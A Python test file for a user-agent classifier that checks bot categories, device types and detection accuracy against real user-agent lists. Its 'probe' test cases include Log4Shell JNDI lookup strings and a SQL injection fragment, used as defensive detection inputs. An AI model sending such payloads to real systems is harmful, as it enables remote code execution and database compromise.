"""Bots, bot categories and device types: the known misses one by one, then recall, false
positives and device accuracy measured on real, maintained user-agent lists (figures and the
tuned/held-out split: ``bench/user_agent_accuracy.py``)."""

from __future__ import annotations

from functools import cache

import pytest

from enrichment import user_agent_block
from enrichment.bots import BOT_CATEGORIES, bot_category, strip_lookaround
from tests.enrichment import ua_lists
from tracker.contract.spec import UA

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/120.0.0.0 Safari/537.36")


@pytest.mark.parametrize(("ua", "category"), [
    ("MyLittleIndexer/0.3 (+http://indexer.example.org/about)", "crawler"),
    ("Mozilla/5.0 (compatible; FooFinder/1.0; +https://foo.example/bot.html)", "crawler"),
    ("APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)", "crawler"),
    ("coccocbot-web/1.0 (+http://help.coccoc.com/searchengine)", "crawler"),
    ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; 16 subscribers; like FeedFetcher-Google)",
     "feed_reader"),
    ("Feedbin feed-id:1234 - 5 subscribers", "feed_reader"),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor"),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor"),
    ("Uptime-Kuma/1.23.0", "monitor"),
    ("${jndi:ldap://203.0.113.7:1389/Exploit}", "probe"),
    ("Mozilla/5.0 ${jndi:dns://x.example/a}", "probe"),
    ("' OR 1=1 --", "probe"),
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "probe"),
    ("curl/8.5.0", "library"),
    ("python-requests/2.32.3", "library"),
    ("Go-http-client/1.1", "library"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "HeadlessChrome/120.0.0.0 Safari/537.36", "headless"),
    ("Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) "
     "PhantomJS/2.1.1 Safari/538.1", "headless"),
])
def test_bots_and_their_category(ua, category):
    block = user_agent_block(ua)
    assert (block["is_bot"], block["device"], block["bot_category"]) == (True, "bot", category)


@pytest.mark.parametrize("ua", [
    "NCSA_Mosaic/2.7b5 (X11;Linux 2.6.7 i686) libwww/2.12 modified",
    "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
    "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; TNJB; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "coc_coc_browser/86.0.180 Chrome/80.0.3987.180 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 (KHTML, "
    "like Gecko) Chrome/31.0.1650.59 Mobile Safari/537.36",
    "AmigaVoyager/3.2 (AmigaOS/MC680x0)",
    CHROME,
])
def test_people_are_not_bots(ua):
    block = user_agent_block(ua)
    assert block["is_bot"] is False and "bot_category" not in block


@pytest.mark.parametrize(("ua", "device"), [
    ("Mozilla/5.0 (Android; Tablet; rv:20.0) Gecko/20.0 Firefox/20.0", "tablet"),
    ("Mozilla/5.0 (Android; Mobile; rv:20.0) Gecko/20.0 Firefox/20.0", "mobile"),
    ("Mozilla/5.0 (Linux; Android 10; TB-X505L) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/90.0.4430.93 Mobile Safari/537.36", "tablet"),  # a Lenovo tablet saying Mobile
    ("Dalvik/2.1.0 (Linux; U; Android 9; SM-G965U Build/PPR1.180610.011)", "mobile"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, "
     "like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.18363", "other"),
    (CHROME, "desktop"),
])
def test_device_types(ua, device):
    assert user_agent_block(ua)["device"] == device


def test_bot_category_is_declared_in_the_contract():
    """The categories we write are exactly the contract's enum for ``enrichment.ua``."""
    assert UA.fields["bot_category"].kind.enum == BOT_CATEGORIES
    block = user_agent_block("Mozilla/5.0 (compatible; UptimeRobot/2.0; "
                             "http://www.uptimerobot.com/)")
    assert set(block) <= set(UA.fields)


def test_blank_and_dash_user_agents():
    assert user_agent_block("-")["bot_category"] == "library"
    assert bot_category("   ") == "library"


def test_strip_lookaround_loosens_only():
    assert strip_lookaround(r"(?<!HTC)[ _]Butterfly/") == "[ _]Butterfly/"
    assert strip_lookaround(r"zeal(?!ot)|x\(?!y") == r"zeal|x\(?!y"


# --- measured on real lists -------------------------------------------------------------------

def _needs_uap() -> None:
    if not ua_lists.UAP_DEVICE.exists():
        pytest.skip(f"shared test data {ua_lists.UAP_DEVICE} is absent")


@cache
def labelled(loader_name: str) -> list[tuple[str, object, dict]]:
    """(user agent, label, our block) for a list of ``ua_lists``, parsed once per session."""
    return [(ua, label, user_agent_block(ua)) for ua, label in getattr(ua_lists, loader_name)()]


def flagged(rows) -> float:
    """Share of ``rows`` we call a bot."""
    return sum(bool(block["is_bot"]) for _, _, block in rows) / len(rows)


def test_bot_recall_held_out_and_tuned():
    _needs_uap()
    spiders = [row for row in labelled("uap_core") if row[1]]
    assert len(spiders) >= 70 and flagged(spiders) >= 0.95  # held out
    assert flagged(labelled("matomo_bots")) >= 0.95
    assert flagged(labelled("crawler_list_instances")) >= 0.95


def test_false_positives_on_real_browsers():
    _needs_uap()
    people = [row for row in labelled("uap_core") if not row[1]]
    assert len(people) > 15_000 and flagged(people) <= 0.005  # held out
    for name in ("intoli_devices", "fake_useragent_devices", "matomo_devices"):
        assert flagged(labelled(name)) <= 0.005, name
    old = [(ua, False, user_agent_block(ua)) for ua in ua_lists.OLD_AND_TEXT_BROWSERS]
    assert flagged(old) <= 0.01


@pytest.mark.parametrize("name", ["intoli_devices", "fake_useragent_devices", "matomo_devices"])
def test_device_type_accuracy(name):
    rows = labelled(name)
    assert {label for _, label, _ in rows} <= set(ua_lists.DEVICE_TYPES)
    named = {"mobile": "smartphone"}
    right = sum(named.get(block["device"], block["device"]) == label for _, label, block in rows)
    assert right / len(rows) >= 0.95
